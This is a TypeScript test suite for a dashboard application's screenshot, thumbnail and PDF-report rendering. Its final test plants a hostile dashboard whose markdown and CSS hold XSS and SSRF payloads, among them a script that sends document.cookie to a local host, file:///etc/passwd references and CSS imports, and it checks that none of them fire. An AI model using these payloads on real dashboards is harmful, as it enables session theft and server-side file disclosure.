import { writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { definitionFor } from '@coset/charts'
import { flushAudit } from '@coset/resources'
import { temporaryDatabase, tokensOf, until } from '@coset/testing'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { workerOf } from '../apps/coset/src/roles/background.ts'
import { openMailbox } from '../apps/coset/src/test-mailbox.ts'
import { ADMIN_PASSWORD, connectWarehouse, layoutOf, startServer, type TestServer, type Warehouse } from '../apps/coset/src/test-server.ts'
import { launch } from './browser.ts'

const GROUND = [3, 150, 7]
const CSS = `.dashboard { background: rgb(${GROUND.join(', ')}) }`
const forever = new AbortController().signal
/** A browser starts with the first picture, and not quickly beside much else. */
const PATIENCE_MS = 60_000

let server: TestServer
let warehouse: Warehouse
let styled = 0
let browser: Browser
let mailbox: Awaited<ReturnType<typeof openMailbox>>
let worker: Awaited<ReturnType<typeof workerOf>>

/** A dashboard of the chart and a text. */
const boardOf = async (title: string, code: string, css: string): Promise<number> => {
  const layout = layoutOf(warehouse.chartId) as Record<string, { children?: string[] }>
  layout['ROW-1']?.children?.push('MARKDOWN-1')
  const markdown = { id: 'MARKDOWN-1', type: 'MARKDOWN', children: [], parents: ['ROOT_ID', 'GRID_ID', 'ROW-1'], meta: { width: 4, height: 50, code } }
  const body = { dashboard_title: title, published: true, css, position_json: JSON.stringify({ ...layout, 'MARKDOWN-1': markdown }) }
  const answer = await server.admin.post('/api/v1/dashboard/', body)
  if (answer.status !== 201) throw new Error(answer.text)
  return answer.json<{ id: number }>().id
}

beforeAll(async () => {
  mailbox = await openMailbox()
  server = await startServer({ config: { smtpUrl: mailbox.url, browserPages: 2, logLevel: 'warn' } })
  warehouse = await connectWarehouse(server)
  styled = await boardOf('Styled', '# Words\n\nwith **weight**, a [link](https://example.org) and\n\n| a | table |\n|---|---|\n| 1 | 2 |', CSS)
  worker = await workerOf(server.running, 'thumbnails=2,reports=1')
  browser = await launch()
})
afterAll(async () => {
  await browser.close()
  await worker.close(1000)
  await server.close()
  await mailbox[Symbol.asyncDispose]()
})

/** Looked at by people where a folder is named. */
const keep = (name: string, bytes: Uint8Array): void => {
  if (process.env['COSET_PICTURES'] !== undefined) writeFileSync(`${process.env['COSET_PICTURES']}/${name}`, bytes)
}

interface Seen {
  readonly width: number
  readonly height: number
  /** Of its left upper corner. */
  readonly corner: readonly number[]
  readonly colors: number
}

/** A PNG as a browser reads it. */
const see = async (png: Uint8Array): Promise<Seen> => {
  const page = await browser.newPage()
  const seen = await page.evaluate(
    async (data) => {
      const image = await createImageBitmap(await (await fetch(data)).blob())
      const canvas = new OffscreenCanvas(image.width, image.height)
      const context = canvas.getContext('2d')
      if (context === null) throw new Error('no canvas')
      context.drawImage(image, 0, 0)
      const { data: pixels } = context.getImageData(0, 0, image.width, image.height)
      const colors = new Set<number>()
      for (let i = 0; i < pixels.length; i += 4) colors.add(((pixels[i] ?? 0) << 16) | ((pixels[i + 1] ?? 0) << 8) | (pixels[i + 2] ?? 0))
      return { width: image.width, height: image.height, corner: [...pixels.slice(4 * (image.width + 1), 4 * (image.width + 1) + 3)], colors: colors.size }
    },
    `data:image/png;base64,${Buffer.from(png).toString('base64')}`,
  )
  await page.close()
  return seen
}

const bytesAt = async (path: string): Promise<Uint8Array> => {
  const { access } = await tokensOf(server.url, 'admin', ADMIN_PASSWORD)
  return new Uint8Array(await (await fetch(server.url + path, { headers: { authorization: `Bearer ${access}` } })).arrayBuffer())
}

const screenshot = async (path: string, body?: object): Promise<string> => {
  const asked = body === undefined ? await server.admin.get(path) : await server.admin.post(path, body)
  expect([200, 202]).toContain(asked.status)
  const { image_url: url } = asked.json<{ image_url: string }>()
  await until('the picture', async () => (await server.admin.get(url)).status === 200, PATIENCE_MS)
  return url
}

describe('what the server cannot draw', () => {
  test('a dashboard with words and styles: PNG and PDF by the API, as the page shows it', async () => {
    const url = await screenshot(`/api/v1/dashboard/${styled}/cache_dashboard_screenshot/`, { activeTabs: [], dataMask: {} })
    const png = await bytesAt(url)
    keep('styled.png', png)
    const seen = await see(png)
    expect(seen).toMatchObject({ width: 3200, corner: GROUND })
    expect(seen.colors).toBeGreaterThan(20)
    // As high as the page, not as the window
    expect(seen.height).toBeGreaterThan(800)
    expect(seen.height).toBeLessThan(1600)
    const pdf = Buffer.from(await bytesAt(`${url}?download_format=pdf`))
    keep('styled.pdf', pdf)
    expect(pdf.toString('latin1')).toMatch(/^%PDF[\s\S]*Skia/)
  })

  test('a chart that takes long does not ask for its place in line', async () => {
    const database = await temporaryDatabase('postgresql')
    const created = await server.admin.post('/api/v1/database/', { database_name: 'Slow', sqlalchemy_uri: database.url })
    expect(created.status, created.text).toBe(201)
    const sql = 'SELECT pg_sleep(2.5)::text AS waited, 1 AS n'
    const dataset = await server.admin.post('/api/v1/dataset/', { database: created.json<{ id: number }>().id, table_name: 'slow', sql })
    expect(dataset.status, dataset.text).toBe(201)
    const params = JSON.stringify({
      viz_type: 'table',
      query_mode: 'raw',
      all_columns: ['waited', 'n'],
      datasource: `${dataset.json<{ id: number }>().id}__table`,
    })
    const asChart = { slice_name: 'Slow', viz_type: 'table', datasource_id: dataset.json<{ id: number }>().id, datasource_type: 'table', params }
    const chart = (await server.admin.post('/api/v1/chart/', asChart)).json<{ id: number }>().id
    const body = { dashboard_title: 'Slow', css: CSS, position_json: JSON.stringify(layoutOf(chart)) }
    const board = (await server.admin.post('/api/v1/dashboard/', body)).json<{ id: number }>().id
    await screenshot(`/api/v1/dashboard/${board}/cache_dashboard_screenshot/`, { activeTabs: [], dataMask: {} })
    await flushAudit(server.running.ctx)
    const refused = await server.running.ctx.metadata.db.selectFrom('audit_events').select(['action', 'detail']).where('status', '=', 403).execute()
    expect(refused).toEqual([])
    await database[Symbol.asyncDispose]()
  })

  test('a thumbnail is the top of it, as small as a card', async () => {
    const { result } = (await server.admin.get(`/api/v1/dashboard/${styled}`)).json<{ result: { thumbnail_url: string } }>()
    await until('the thumbnail', async () => (await server.admin.get(result.thumbnail_url)).status === 200, PATIENCE_MS)
    const png = await bytesAt(result.thumbnail_url)
    keep('thumbnail.png', png)
    const seen = await see(png)
    expect(seen).toMatchObject({ width: 800, corner: GROUND })
    expect(seen.height).toBeLessThanOrEqual(600)
  })

  test('a report carries it, as picture and as PDF', async () => {
    for (const report_format of ['PNG', 'PDF']) {
      const body = {
        ...{ type: 'Report', name: report_format, crontab: '0 9 * * *', timezone: 'UTC', dashboard: styled, report_format, active: false },
        recipients: [{ type: 'Email', recipient_config_json: { target: 'admin@localhost' } }],
      }
      const made = await server.admin.post('/api/v1/report/', body)
      expect(made.status, made.text).toBe(201)
      expect((await server.admin.post(`/api/v1/report/${made.json<{ id: number }>().id}/run`, {})).status).toBeLessThan(300)
      await until('the mail', async () => mailbox.mails.some((mail) => mail.subject?.includes(report_format) === true), PATIENCE_MS)
      const sent = mailbox.mails.find((mail) => mail.subject?.includes(report_format) === true)?.attachments[0]?.content ?? Buffer.alloc(0)
      if (report_format === 'PNG') expect((await see(sent)).corner).toEqual(GROUND)
      else expect(sent.toString('latin1')).toMatch(/^%PDF[\s\S]*Skia/)
    }
  })

  test('what the server can draw, it draws; and nothing else is drawn when the browser is not to be used', async () => {
    const before = server.running.pictures.pool
    await using plain = await startServer()
    const { dashboardId, chartId } = await connectWarehouse(plain)
    const drawing = await workerOf(plain.running, 'thumbnails=1')
    for (const [path, body] of [
      [`/api/v1/chart/${chartId}/cache_screenshot/`],
      [`/api/v1/dashboard/${dashboardId}/cache_dashboard_screenshot/`, {}],
    ] as const) {
      const asked = body === undefined ? await plain.admin.get(path) : await plain.admin.post(path, body)
      const { image_url: url } = asked.json<{ image_url: string }>()
      await until('the picture', async () => (await plain.admin.get(url)).status === 200, PATIENCE_MS)
    }
    expect(plain.running.pictures.pool).toBeNull()
    expect(before).not.toBeNull()
    await drawing.close(1000)
  })

  test('a chart that the dashboard’s styles hide keeps nobody waiting', async () => {
    const id = await boardOf('Hiding', 'words', `${CSS} .chart-slice { display: none }`)
    const shot = { object: { kind: 'dashboard', id }, userId: 1, parameters: {}, width: 800, height: null, kind: 'png', scale: 1 } as const
    const png = await server.running.ctx.pictures.shoot(shot, forever)
    expect(await see(png ?? new Uint8Array())).toMatchObject({ width: 800, corner: GROUND })
  })

  test('a chart without a drawing of its own is drawn by its page, alone and on a dashboard', async () => {
    const definition = definitionFor('word_cloud')
    const { transform } = definition
    await using plain = await startServer()
    const { datasetId } = await connectWarehouse(plain)
    const params = JSON.stringify({ viz_type: 'word_cloud', series: 'region', metric: 'count', row_limit: 10 })
    const body = { slice_name: 'Words', viz_type: 'word_cloud', datasource_id: datasetId, datasource_type: 'table', params }
    const chartId = (await plain.admin.post('/api/v1/chart/', body)).json<{ id: number }>().id
    const board = { dashboard_title: 'Page', position_json: JSON.stringify(layoutOf(chartId)) }
    const dashboardId = (await plain.admin.post('/api/v1/dashboard/', board)).json<{ id: number }>().id
    const drawing = await workerOf(plain.running, 'thumbnails=1')
    const picture = async (kind: 'chart' | 'dashboard', width: number): Promise<void> => {
      const size = `?q=(window_size:!(${width},600))`
      const asked =
        kind === 'chart'
          ? await plain.admin.get(`/api/v1/chart/${chartId}/cache_screenshot/${size}`)
          : await plain.admin.post(`/api/v1/dashboard/${dashboardId}/cache_dashboard_screenshot/${size}`, {})
      const { image_url: url } = asked.json<{ image_url: string }>()
      await until('the picture', async () => (await plain.admin.get(url)).status === 200, PATIENCE_MS)
      keep(`${kind}-page-${width}.png`, (await plain.admin.get(url)).bytes)
    }
    await picture('chart', 800)
    await picture('dashboard', 1200)
    expect(plain.running.pictures.pool).toBeNull()
    Object.assign(definition, {
      transform: (input: Parameters<typeof transform>[0]) => {
        const model = transform(input)
        return model.kind === 'custom' ? { kind: model.kind, data: model.data, summary: model.summary } : model
      },
    })
    try {
      await picture('chart', 801)
      expect(plain.running.pictures.pool?.mostOpen).toBe(1)
      await picture('dashboard', 1201)
    } finally {
      Object.assign(definition, { transform })
    }
    await drawing.close(1000)
  })

  test('a chart, all by the browser', async () => {
    await using all = await startServer({ config: { picturesBy: 'browser' } })
    const { chartId } = await connectWarehouse(all)
    const shot = { object: { kind: 'chart', id: chartId }, userId: 1, parameters: {}, width: 500, height: 300, kind: 'png', scale: 2 } as const
    const png = await all.running.ctx.pictures.shoot(shot, forever)
    keep('chart.png', png ?? new Uint8Array())
    expect(await see(png ?? new Uint8Array())).toMatchObject({ width: 1000, height: 600 })
    expect(await all.running.ctx.pictures.shoot({ ...shot, object: { kind: 'chart', id: chartId + 9 } }, forever)).toBeNull()
    expect(await all.running.ctx.pictures.shoot({ ...shot, userId: 999 }, forever)).toBeNull()
  })

  test('without a browser the server draws as before', async () => {
    const known = process.env['COSET_CHROMIUM']
    process.env['COSET_CHROMIUM'] = '/no/such/browser'
    try {
      await using none = await startServer({ config: { picturesBy: 'browser' } })
      const { dashboardId } = await connectWarehouse(none)
      const drawing = await workerOf(none.running, 'thumbnails=1')
      const asked = await none.admin.post(`/api/v1/dashboard/${dashboardId}/cache_dashboard_screenshot/`, {})
      const { image_url: url } = asked.json<{ image_url: string }>()
      await until('the picture', async () => (await none.admin.get(url)).status === 200, PATIENCE_MS)
      expect(none.running.pictures.pool).toBeNull()
      await drawing.close(1000)
    } finally {
      if (known === undefined) delete process.env['COSET_CHROMIUM']
      else process.env['COSET_CHROMIUM'] = known
    }
  })
})

describe('38: a hostile dashboard', () => {
  let other: Server
  let host = ''
  const heard: string[] = []
  beforeAll(async () => {
    other = createServer((socket) => {
      heard.push('a connection')
      socket.destroy()
    })
    await new Promise<void>((ready) => other.listen(0, '127.0.0.1', ready))
    host = `127.0.0.1:${(other.address() as { port: number }).port}`
    return () => other.close()
  })

  test('38: words, markup and styles of it ask nobody, see no file and no session, and are drawn', async () => {
    const code = [
      `![x](http://${host}/a) <img src="http://${host}/b"> <img src="//${host}/c"> <img src="/logout/"> <img src="file:///etc/passwd">`,
      `<iframe src="http://${host}/d"></iframe><iframe src="file:///etc/passwd"></iframe><object data="http://${host}/e"></object>`,
      `<script>fetch('http://${host}/f?' + document.cookie)</script><meta http-equiv="refresh" content="0;url=http://${host}/g">`,
      `<link rel="stylesheet" href="http://${host}/h"><style>* { background: url(http://${host}/i) }</style><base href="http://${host}/">`,
      `<form action="http://${host}/j"><button autofocus>x</button></form><video src="http://${host}/k" autoplay></video>`,
      '{{#each data}}<img src="{{this}}">{{/each}} **still here**',
    ].join('\n\n')
    const css = `${CSS} .header-title { background: url(http://${host}/l) } @import "http://${host}/m"; @font-face { font-family: x; src: url(http://${host}/n) }`
    const id = await boardOf('Hostile', code, css)
    const shot = { object: { kind: 'dashboard', id }, userId: 1, parameters: {}, width: 1200, height: null, kind: 'png', scale: 1 } as const
    const png = await server.running.ctx.pictures.shoot(shot, forever)
    keep('hostile.png', png ?? new Uint8Array())
    expect(await see(png ?? new Uint8Array())).toMatchObject({ width: 1200, corner: GROUND })
    expect(heard).toEqual([])
    expect((await server.admin.get('/api/v1/me/')).status).toBe(200)
  })
})
